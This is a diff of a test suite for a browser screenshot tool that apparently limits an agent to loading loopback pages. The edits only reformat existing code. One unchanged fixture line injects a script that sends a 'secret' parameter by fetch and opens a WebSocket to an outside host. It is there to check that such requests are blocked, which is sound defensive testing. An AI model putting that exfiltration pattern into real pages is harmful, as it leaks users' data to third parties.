@@ -36,7 +36,10 @@ beforeAll(async () => {
 <script>fetch('http://${away}/fetch?t=secret').catch(() => {}); new WebSocket('ws://${away}/ws');</script>`);
     }
     // A tall, noisy page: worst case for JPEG size.
-    const cells = Array.from({ length: 6000 }, (_, i) => `<i style="background:hsl(${(i * 137) % 360},90%,${30 + (i * 7) % 50}%)"></i>`).join('');
+    const cells = Array.from(
+      { length: 6000 },
+      (_, i) => `<i style="background:hsl(${(i * 137) % 360},90%,${30 + ((i * 7) % 50)}%)"></i>`,
+    ).join('');
     res.end(`<!doctype html><style>i{display:inline-block;width:7px;height:7px}</style><h1>${req.url}</h1>${cells}`);
   });
   base = `http://127.0.0.1:${await listen(server)}`;
@@ -72,7 +75,9 @@ describe('a page on loopback, which the agent may open without asking', { timeou
 
   it('cannot redirect the browser elsewhere', async () => {
     elsewhereHits.length = 0;
-    await expect(captureScreenshot(browsers, `${base}/redirect`)).rejects.toThrow(/may load only this machine's addresses/);
+    await expect(captureScreenshot(browsers, `${base}/redirect`)).rejects.toThrow(
+      /may load only this machine's addresses/,
+    );
     await settle();
     expect(elsewhereHits).toEqual([]);
   });
